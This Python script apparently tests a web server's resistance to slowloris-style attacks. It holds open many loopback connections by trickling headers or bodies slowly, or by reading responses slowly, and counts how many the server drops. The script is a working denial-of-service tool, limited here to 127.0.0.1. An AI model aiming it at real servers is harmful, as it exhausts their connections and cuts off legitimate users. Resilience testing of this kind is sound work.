#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Holds connections open by being slow, from many addresses, until standard input ends.

    attacker.py slow_header|slow_body|slow_read PORT CONNECTIONS

Says "opened" when all are open, and at the end how many the server has closed; each of those was opened anew.
"""

import select
import socket
import sys
import time

PERIOD = 1.0  # between two bytes of a connection
BEGINNINGS = {
    "slow_header": b"GET /plaintext HTTP/1.1\r\nHost: attack\r\nX-Slow: ",
    "slow_body": b"POST /echo HTTP/1.1\r\nHost: attack\r\nContent-Length: 1000000\r\n\r\n",
    "slow_read": b"GET /10m.txt HTTP/1.1\r\nHost: attack\r\n\r\n",
}
READ_BYTES = 100


class Attack:
    def __init__(self, kind: str, port: int, connections: int):
        self.kind = kind
        self.port = port
        self.closed = 0
        self.poller = select.epoll()
        self.sockets = [self.open(number) for number in range(connections)]
        self.by_descriptor = {one.fileno(): number for number, one in enumerate(self.sockets)}

    def open(self, number: int) -> socket.socket:
        client = socket.socket()
        if self.kind == "slow_read":
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        client.bind((f"127.1.{number // 250}.{number % 250 + 1}", 0))
        client.connect(("127.0.0.1", self.port))
        client.send(BEGINNINGS[self.kind])
        client.setblocking(False)
        self.poller.register(client, select.EPOLLRDHUP)
        return client

    def go_on(self, client: socket.socket) -> None:
        if self.kind == "slow_read":
            client.recv(READ_BYTES)
        else:
            client.send(b"x")

    def replace_closed(self) -> None:
        for descriptor, _ in self.poller.poll(0):
            number = self.by_descriptor.pop(descriptor)
            self.sockets[number].close()
            self.closed += 1
            self.sockets[number] = self.open(number)
            self.by_descriptor[self.sockets[number].fileno()] = number

    def run(self) -> None:
        """Spreads each period's bytes over it, so that the attack itself comes in no bursts."""
        slice_count = 100
        while not select.select([sys.stdin], [], [], 0)[0]:
            for part in range(slice_count):
                began = time.monotonic()
                self.replace_closed()
                for client in self.sockets[part::slice_count]:
                    try:
                        self.go_on(client)
                    except OSError:
                        pass  # nothing to read yet, or closed: found by the poller
                time.sleep(max(0.0, PERIOD / slice_count - (time.monotonic() - began)))


def main() -> None:
    kind, port, connections = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    attack = Attack(kind, port, connections)
    print("opened", flush=True)
    attack.run()
    print(attack.closed, flush=True)


if __name__ == "__main__":
    main()
